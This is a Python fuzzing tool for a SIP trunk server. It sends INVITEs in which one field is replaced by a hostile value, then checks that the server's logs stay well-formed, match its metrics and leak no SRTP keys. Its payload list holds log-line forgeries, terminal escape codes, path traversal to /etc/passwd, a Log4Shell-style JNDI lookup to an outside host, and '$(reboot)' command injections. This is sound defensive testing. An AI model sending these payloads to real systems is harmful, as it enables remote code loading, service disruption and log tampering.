#!/usr/bin/python3
"""Bytes that would like to be a line of the log.

    logfuzz.py send ADDRESS:PORT NAME PKI SEED COUNT KEYS   over mutual TLS, COUNT messages with one
                                                 field in each of them replaced by what terminals,
                                                 parsers of logs and file names stumble over; each
                                                 SRTP key that was offered, whole or cut, to KEYS
    logfuzz.py judge FORMAT LOG METRICS KEYS...  every line of LOG, in its format, is one event of
                                                 ours; as many as METRICS counted; no key is in LOG
                                                 or METRICS

The fields are all that a peer writes: of the start line, the headers and the description."""
import base64
import json
import random
import re
import sys

import sipkit

FORGED = '{"ts":"2026-01-01T00:00:00.000Z","level":"info","event":"forged"}'
VALUES = [text.encode("utf-8", "surrogateescape") for text in (
    "\r\n" + FORGED + "\r\n", "\n" + FORGED + "\n", "\r" + FORGED, "\v" + FORGED + "\f", "\u2028" + FORGED,
    "\x85" + FORGED, '","event":"forged","x":"', '\\","event":"forged"', '"}\n{"event":"forged"', '\\', '\\\\"', '"',
    "\x1b[2J\x1b[1;31mforged\x1b[0m", "\x1b]0;forged\x07", "\x9b2J", "\x1bP1;1|17/ab\x1b\\", "\x08\x08\x08forged",
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/dev/null", "%00", "%0d%0aforged", "\0forged", "%s%n%s%n%x",
    "${jndi:ldap://198.51.100.66/a}", "$(reboot)", "`reboot`", "';--", "\u202eforged", "\u2066forged\u2069", "\ufeff",
    "\udcff\udcfe", "\udcc0\udc80", "\udced\udca0\udc80", "\udcf4\udc90\udc80\udc80", "\udce2\udc82", "\udcc3", "\x7f",
    "A" * 300, "A" * 1500, "\u00e4" * 400, "\\" * 500, '"' * 500, "\x1b" * 300, "\U0001f4de" * 120, "\tforged",
    " event=forged", "\nts=1 level=info event=forged", "2026-01-01T00:00:00.000Z info forged")]
SDP_FIELDS = ("v", "o", "s", "c", "t", "m", "crypto", "crypto-key", "crypto-suite", "rtpmap", "x")
FIELDS = ("method", "user", "host", "parameter", "version", "From", "From-tag", "display", "caller", "To", "Call-ID",
          "CSeq", "CSeq-method", "Via", "branch", "Via-host", "Contact", "Max-Forwards", "Content-Type", "Require",
          "Content-Length", "User-Agent", "Subject", "X-Fuzz", "name", *SDP_FIELDS)
EVENT = re.compile(r"[a-z_]+\.[a-z_]+")
TEXT = re.compile(r'\d{4}-\d\d-\d\dT[\d:.]+Z (info|warning|error) [a-z_]+\.[a-z_]+'
                  r'( [a-z_]+=(-?\d+|"([^"\\]|\\["\\]|\\u[0-9a-f]{4})*"))*( cut=true)?')
# What no line may hold as it is: C0, DEL, C1, separators of lines, and what turns the direction of text.
UNSAFE = re.compile("[\0-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def in_sdp(body, field, value):
    line = {"crypto": rb"(a=crypto:)[^\r]*()", "crypto-key": rb"(a=crypto:[^\r]*inline:.{20})[^\r]*()",
            "crypto-suite": rb"(a=crypto:1 )\S+( )", "rtpmap": rb"(a=rtpmap:0 )[^\r]*()",
            "x": rb"(a=)sendrecv()"}.get(field, rb"(" + field.encode() + rb"=)[^\r]*()")
    return re.sub(line, lambda m: m[1] + value + m[2], body, count=1)


def fuzzed(target, local, field, value):
    key = sipkit.new_key()
    body = sipkit.sdp(local.rsplit(":", 1)[0], 31000, key)
    if field in SDP_FIELDS:
        body = in_sdp(body, field, value)
    # To a foreign domain: what the log says of it is the URI.
    data = sipkit.invite("+4930123", "foreign.example.test" if field not in SDP_FIELDS else target[1], local, body).encode()
    replaced = {"method": (rb"^INVITE", value), "user": (rb"sip:\+4930123", b"sip:" + value),
                "host": (rb"foreign.example.test", value), "parameter": (rb" SIP/2.0\r\n", b";x=" + value + b" SIP/2.0\r\n"),
                "version": (rb" SIP/2.0\r\n", b" " + value + b"\r\n"), "From-tag": (rb";tag=", b";tag=" + value),
                "display": (rb"From: ", b'From: "' + value + b'" '), "caller": (rb"\+15550100", value),
                "CSeq-method": (rb"1 INVITE", b"1 " + value), "branch": (rb"branch=", b"branch=" + value),
                "Via-host": (rb"TLS \S+?;", b"TLS " + value + b";"), "name": (rb"\r\nMax-Forwards", b"\r\n" + value + b"Max-Forwards")}
    if field in replaced:
        pattern, new = replaced[field]
        data = re.sub(pattern, lambda m: new, data, count=1)
    elif field not in SDP_FIELDS:
        line = b"\r\n" + field.encode() + b": " + value
        data, count = re.subn(rb"\r\n" + field.encode() + rb": [^\r]*", lambda m: line, data, count=1)
        if count == 0:
            data = data.replace(b"\r\nMax-Forwards", line + b"\r\nMax-Forwards", 1)
    return data, key


class Line:
    def __init__(self, target):
        self.target, self.sock = target, None

    def read(self):
        """What the trunk says, until it hangs up."""
        while self.sock is not None:
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b""
            yield from self.framer.feed(data)
            if not data:
                self.sock = None

    def say(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            pass

    def send(self, data):
        """Until the fence behind it is answered; a call that is taken ends, too."""
        if self.sock is None:
            self.sock = sipkit.tls(*self.target)
            self.sock.settimeout(10)
            self.framer = sipkit.Framer()
        fence = sipkit.options(self.target[1], sipkit.local_of(self.sock))
        self.say(data + fence.encode())
        is_open, is_fenced = False, False
        for message in self.read():
            if message.get("call-id") == fence.get("call-id"):
                is_fenced = True
            elif message.get("cseq").endswith("INVITE") and message.status == 100:
                is_open = True
            elif message.get("cseq").endswith("INVITE") and message.status >= 200:
                is_open = message.status < 300
                self.settle(data, message)
            elif message.get("cseq").endswith("BYE"):
                is_open = False
            if is_fenced and not is_open:
                return

    def settle(self, data, answer):
        if answer.status >= 300:
            self.say(ack_of(answer))
            return
        call = sipkit.Message.parse(data.partition(b"\r\n\r\n")[0], b"")
        self.say(sipkit.within(call, answer, "ACK", 1).encode() + sipkit.within(call, answer, "BYE", 2).encode())


def ack_of(refusal):
    keep = [(k, v) for k, v in refusal.headers if k.lower() in ("from", "to", "call-id")]
    return sipkit.Message("ACK sip:nobody@example.test SIP/2.0", [("Via", refusal.all("via")[0]), *keep,
                          ("Max-Forwards", "70"), ("CSeq", refusal.get("cseq").replace("INVITE", "ACK"))]).encode()


def send(address, name, pki, seed, count, keys):
    dice, line, count = random.Random(seed), Line((address, name, pki)), int(count)
    cases = [(field, value) for field in FIELDS for value in VALUES]
    dice.shuffle(cases)
    while len(cases) < count:
        value = bytearray(dice.choice(VALUES))
        for _ in range(dice.randrange(1, 8)):
            value[dice.randrange(len(value)):0] = dice.choice(VALUES)[:40] if dice.random() < 0.5 else dice.randbytes(1)
        cases.append((dice.choice(FIELDS), bytes(value[:2000])))
    with open(keys, "w", encoding="ascii") as file:
        for case in cases[:count]:
            data, key = fuzzed(line.target, "198.51.100.20:6000", *case)
            file.write(sipkit.inline(key) + "\n")
            line.send(data)
    print("messages", count)
    return 0


def no_twins(pairs):
    keys = [key for key, _ in pairs]
    if len(set(keys)) != len(keys):
        raise ValueError("a key twice")
    return dict(pairs)


def event_of_text(line):
    if not TEXT.fullmatch(line):
        raise ValueError("no line of ours")
    return line.split()[2]


def fields_of(text, stop, escapes):
    """Takes key=value pairs off the text, as a reader does that knows the format's escapes alone."""
    fields, at = {}, 0
    while at < len(text) and text[at] == " ":
        name = re.match(r" ([A-Za-z0-9_]+)=", text[at:])
        if not name or name[1] in fields:
            raise ValueError("no field, or one twice")
        at += name.end()
        value, at = stop(text, at, escapes)
        fields[name[1]] = value
    return fields, text[at:]


def quoted(text, at, escapes):
    if text[at] != '"':
        raise ValueError("no quote")
    value, at = "", at + 1
    while text[at] != '"':
        if text[at] == "]":
            raise ValueError("a bracket that ends the data")
        if text[at] == "\\":
            at += 1
            if text[at] not in escapes:
                raise ValueError("a backslash before nothing")
        value, at = value + text[at], at + 1
    return value, at + 1


def bare(text, at, escapes):
    """Up to the space before the next key."""
    value = ""
    while at < len(text) and not re.match(r" [A-Za-z0-9_]+=", text[at:]):
        if text[at] == "=":
            raise ValueError("a bare =")
        if text[at] == "\\":
            at += 1
            if text[at] not in escapes:
                raise ValueError("a backslash before nothing")
        value, at = value + text[at], at + 1
    return value, at


def event_of_syslog(line):
    """RFC 5424 6."""
    head = re.match(r"<(\d{1,3})>1 \d{4}-\d\d-\d\dT[\d:.]+Z ([!-~]{1,255}) ([!-~]{1,48}) (\d+) ([!-~]{1,32}) "
                    r"\[zerotrunk@32473(?= )", line)
    if not head or int(head[1]) not in (27, 28, 30):
        raise ValueError("no head of RFC 5424")
    _, rest = fields_of(line[head.end():], quoted, '"\\]')
    if not re.fullmatch(r"\] [A-Za-z, ]+", rest):
        raise ValueError("more than the data")
    return head[5]


def event_of_cef(line):
    head = re.match(r"CEF:0\|zerotrunk\|zerotrunkd\|[0-9.]+\|\d+\|[^|\\=]+\|(10|\d)\|", line)
    if not head:
        raise ValueError("no head of CEF")
    fields, rest = fields_of(" " + line[head.end():], bare, "\\=nr")
    if rest or not fields["rt"].isdigit() or head[0].split("|")[4] == "0":
        raise ValueError("no event of ours")
    return fields["cat"]


OCSF_NEEDS = {0: (), 2004: ("finding_info",), 4001: ("src_endpoint",), 6002: ("app",)}


def event_of_ocsf(line):
    """What the classes of OCSF 1.3 require."""
    event = json.loads(line, object_pairs_hook=no_twins)
    number = {name: event[name] for name in ("class_uid", "category_uid", "activity_id", "type_uid", "severity_id", "time")}
    if not all(isinstance(value, int) for value in number.values()):
        raise ValueError("a number is none")
    if number["type_uid"] != number["class_uid"] * 100 + number["activity_id"]:
        raise ValueError("type_uid is not that of its class")
    if number["category_uid"] != number["class_uid"] // 1000 or number["severity_id"] not in (1, 3, 4):
        raise ValueError("a category or a severity is wrong")
    if any(name not in event for name in OCSF_NEEDS[number["class_uid"]]):
        raise ValueError("what the class requires is missing")
    if not event["metadata"]["product"]["vendor_name"] or event["metadata"]["version"] != "1.3.0":
        raise ValueError("metadata are wrong")
    if not isinstance(event["unmapped"], dict):
        raise ValueError("unmapped is no object")
    return event["metadata"]["event_code"]


READERS = {"text": event_of_text, "syslog": event_of_syslog, "cef": event_of_cef, "ocsf": event_of_ocsf}


def event_of(form, line):
    if UNSAFE.search(line):
        raise ValueError("a character that must be escaped")
    if form in READERS:
        return READERS[form](line)
    event = json.loads(line, object_pairs_hook=no_twins)
    if not isinstance(event, dict) or not EVENT.fullmatch(event["event"]):
        raise ValueError("no event")
    return event["event"]


def counted(metrics):
    """How often the metrics say that each of some events happened."""
    total = {}
    for name, event in (("calls", "call.start"), ("gate_refused", "gate.refused"), ("sdp_refused", "sdp.refused")):
        found = re.findall(rf"^zerotrunk_{name}_total(?:\{{.*\}})? (\d+)$", metrics, re.M)
        total[event] = sum(map(int, found))
    return total


def leaks(keys, text):
    for path in keys:
        with open(path, encoding="ascii") as file:
            for key in file.read().split():
                raw = base64.b64decode(key)
                # Its beginning would do as well: a line may have been cut.
                for form in (key[:16].encode(), raw[:12].hex().encode(), raw[:12].hex().upper().encode(), raw[:12]):
                    if form in text:
                        yield key


def judge(form, path, metrics, *keys):
    with open(path, "rb") as file:
        text = file.read()
    with open(metrics, "rb") as file:
        text_of_metrics = file.read()
    seen, wrong = {}, []
    for line in text.rstrip(b"\n").split(b"\n"):
        try:
            event = event_of(form, line.decode("utf-8", "strict"))
            seen[event] = seen.get(event, 0) + 1
        except (ValueError, KeyError) as error:
            wrong.append(f"{error}: {line!r}")
    for event, count in counted(text_of_metrics.decode()).items():
        if seen.get(event, 0) != count:
            wrong.append(f"{event}: {seen.get(event, 0)} lines, {count} in the metrics")
    found = list(leaks(keys, text + b"\n" + text_of_metrics))
    wrong += [f"a key: {key}" for key in found]
    if b"inline:" in text:
        wrong.append("a line of a=crypto")
    print("lines", sum(seen.values()), *(f"{event} {count}" for event, count in sorted(seen.items())))
    print(*wrong[:10], sep="\n")
    return 1 if wrong or sum(seen.values()) == 0 else 0


ROLES = {"send": send, "judge": judge}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ROLES:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    sys.exit(ROLES[sys.argv[1]](*sys.argv[2:]))
